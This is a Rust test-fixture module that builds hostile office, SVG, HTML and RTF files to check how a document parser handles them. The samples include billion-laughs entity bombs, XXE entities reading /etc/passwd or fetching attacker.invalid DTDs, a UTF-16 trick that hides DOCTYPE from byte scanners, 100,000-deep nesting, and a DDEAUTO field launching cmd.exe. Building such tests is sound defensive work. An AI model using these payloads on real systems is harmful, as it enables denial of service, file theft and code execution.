//! Markup that grows, fetches or nests: in every format that is markup.

use super::Expected::{Answered, Refused, Taken};
use super::Shelf;
use super::office::{
    cell, docx, docx_of, ods, odt, open_document, p, row, small_sheet, table, xlsx, xlsx_of,
};
use std::fmt::Write as _;

const DEEP: usize = 100_000;

pub(super) fn fill(shelf: &mut Shelf) {
    for (what, declared) in declarations() {
        let entity = "&big;";
        shelf.put(
            Refused("declares-entities"),
            "e.docx",
            format!("{what} in docx"),
            docx(&declared, &p(entity), &[]),
        );
        shelf.put(
            Refused("declares-entities"),
            "e.odt",
            format!("{what} in odt"),
            odt(&declared, &format!("<text:p>{entity}</text:p>"), &[]),
        );
        let sheet = format!(
            "<sheetData><row r=\"1\">{}</row></sheetData>",
            cell("A1", entity)
        );
        shelf.put(
            Refused("declares-entities"),
            "e.xlsx",
            format!("{what} in xlsx"),
            xlsx(&declared, &sheet, "", &[]),
        );
        shelf.put(
            Refused("declares-entities"),
            "e.ods",
            format!("{what} in ods"),
            ods(&declared, &table(&row(entity))),
        );
        let drawing = format!(
            "<?xml version=\"1.0\"?>{declared}<svg xmlns=\"http://www.w3.org/2000/svg\"><text>{entity}</text></svg>"
        );
        shelf.put(
            Refused("unknown-format"),
            "e.svg",
            format!("{what} in svg"),
            drawing,
        );
    }
    wide_letters(shelf);
    depths(shelf);
    fetches(shelf);
}

fn declarations() -> Vec<(&'static str, String)> {
    let mut laughs = "<!DOCTYPE big [<!ENTITY l0 \"ha\">".to_owned();
    for level in 1..10 {
        let below = format!("&l{};", level - 1).repeat(10);
        let _ = write!(laughs, "<!ENTITY l{level} \"{below}\">");
    }
    laughs += "<!ENTITY big \"&l9;\">]>";
    let long = "a".repeat(100_000);
    let often = "&a;".repeat(50_000);
    vec![
        ("a billion laughs", laughs),
        (
            "a long entity often",
            format!("<!DOCTYPE big [<!ENTITY a \"{long}\"><!ENTITY big \"{often}\">]>"),
        ),
        (
            "a file of ours",
            "<!DOCTYPE big [<!ENTITY big SYSTEM \"file:///etc/passwd\">]>".to_owned(),
        ),
        (
            "an address",
            "<!DOCTYPE big [<!ENTITY big SYSTEM \"http://127.0.0.1:9/big\">]>".to_owned(),
        ),
        (
            "a document type elsewhere",
            "<!DOCTYPE big SYSTEM \"http://attacker.invalid/big.dtd\">".to_owned(),
        ),
        (
            "an entity of parameters",
            "<!DOCTYPE big [<!ENTITY % p SYSTEM \"http://attacker.invalid/p\">%p;]>".to_owned(),
        ),
    ]
}

/// Sixteen bits a letter: whoever looks for `<!DOCTYPE` byte by byte does not find it.
fn wide_letters(shelf: &mut Shelf) {
    let wide = |text: &str| {
        let letters = text.encode_utf16().flat_map(u16::to_le_bytes);
        [0xFF, 0xFE].into_iter().chain(letters).collect::<Vec<u8>>()
    };
    let (_, laughs) = declarations().swap_remove(0);
    let document = format!(
        "<?xml version=\"1.0\" encoding=\"UTF-16\"?>{laughs}<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body>{}</w:body></w:document>",
        p("&big;")
    );
    shelf.put(
        Refused("declares-entities|broken-part"),
        "wide.docx",
        "laughs in UTF-16 in docx",
        docx_of(&wide(&document), &[]),
    );
    let sheet = format!(
        "<?xml version=\"1.0\" encoding=\"UTF-16\"?>{laughs}<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData><row r=\"1\">{}</row></sheetData></worksheet>",
        cell("A1", "&big;")
    );
    shelf.put(
        Refused("declares-entities|broken-part|nothing"),
        "wide.xlsx",
        "laughs in UTF-16 in xlsx",
        xlsx_of(&wide(&sheet), "", &[]),
    );
    let content = format!("<?xml version=\"1.0\" encoding=\"UTF-16\"?>{laughs}<a>&big;</a>");
    shelf.put(
        Refused("declares-entities|broken-part|nothing"),
        "wide.odt",
        "laughs in UTF-16 in odt",
        open_document("text", &wide(&content), &[]),
    );
}

fn depths(shelf: &mut Shelf) {
    let nest = |open: &str, close: &str, within: &str| {
        format!("{}{within}{}", open.repeat(DEEP), close.repeat(DEEP))
    };
    let too_deep = Refused("too-much|too-hard|broken-part");
    shelf.put(
        too_deep,
        "deep.docx",
        "100,000 tables in one another in docx",
        docx(
            "",
            &nest("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>", &p("x")),
            &[],
        ),
    );
    shelf.put(
        too_deep,
        "deep.docx",
        "100,000 unknown elements in one another in docx",
        docx("", &nest("<w:x>", "</w:x>", &p("x")), &[]),
    );
    shelf.put(
        too_deep,
        "deep.odt",
        "100,000 sections in one another in odt",
        odt(
            "",
            &nest("<text:section>", "</text:section>", "<text:p>x</text:p>"),
            &[],
        ),
    );
    shelf.put(
        too_deep,
        "deep.odt",
        "100,000 lists in one another in odt",
        odt(
            "",
            &nest(
                "<text:list><text:list-item>",
                "</text:list-item></text:list>",
                "<text:p>x</text:p>",
            ),
            &[],
        ),
    );
    shelf.put(
        too_deep,
        "deep.ods",
        "100,000 groups in one another in ods",
        ods(
            "",
            &table(&nest(
                "<table:table-row-group>",
                "</table:table-row-group>",
                &row("x"),
            )),
        ),
    );
    shelf.put(
        Answered,
        "deep.xlsx",
        "100,000 unknown elements in one another in xlsx",
        xlsx(
            "",
            &format!("{}{}", nest("<x>", "</x>", ""), small_sheet()),
            "",
            &[],
        ),
    );
    shelf.put(
        Answered,
        "deep.xlsx",
        "100,000 elements in one another in a shared text",
        xlsx(
            "",
            "<sheetData><row r=\"1\"><c r=\"A1\" t=\"s\"><v>0</v></c></row></sheetData>",
            &format!("<si>{}</si>", nest("<r>", "</r>", "<t>x</t>")),
            &[],
        ),
    );
    shelf.put(
        too_deep,
        "deep.html",
        "100,000 elements in one another in html",
        nest("<div>", "</div>", "x"),
    );
    shelf.put(
        Answered,
        "deep.svg",
        "100,000 groups in one another in svg",
        format!(
            "<svg xmlns=\"http://www.w3.org/2000/svg\">{}</svg>",
            nest("<g>", "</g>", "x")
        ),
    );
    shelf.put(
        Answered,
        "deep.rtf",
        "100,000 groups in one another in rtf",
        format!("{{\\rtf1 {}}}", nest("{", "}", "x")),
    );
    shelf.put(
        too_deep,
        "deep.html",
        "100,000 elements never closed in html",
        "<b>".repeat(DEEP) + "x",
    );
    let attributes: String = (0..DEEP)
        .map(|number| format!(" a{number}=\"x\""))
        .collect();
    shelf.put(
        Refused("too-much"),
        "wide.html",
        "100,000 attributes in html",
        format!("<p{attributes}>words</p>"),
    );
    shelf.put(
        Answered,
        "wide.docx",
        "100,000 attributes in docx",
        docx(
            "",
            &format!("<w:p{attributes}><w:r><w:t>words</w:t></w:r></w:p>"),
            &[],
        ),
    );
}

/// Nothing here is an entity, and everything asks for an address.
fn fetches(shelf: &mut Shelf) {
    let relations = b"<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"http://attacker.invalid/t.dotm\" TargetMode=\"External\"/></Relationships>";
    shelf.put(
        Taken,
        "template.docx",
        "a template elsewhere",
        docx(
            "",
            &p("words"),
            &[("word/_rels/settings.xml.rels", relations.as_slice())],
        ),
    );
    let field = "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe \"/k calc\"</w:instrText></w:r><w:r><w:t>words</w:t></w:r></w:p>";
    shelf.put(
        Taken,
        "dde.docx",
        "a field that starts a program",
        docx("", field, &[]),
    );
    shelf.put(
        Taken,
        "link.odt",
        "a picture elsewhere",
        odt(
            "",
            "<text:p>words<draw:image xlink:href=\"http://attacker.invalid/p.png\"/></text:p>",
            &[],
        ),
    );
    shelf.put(Taken, "include.odt", "a piece of another file", odt("", "<text:p>words</text:p><xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\"/>", &[]));
}
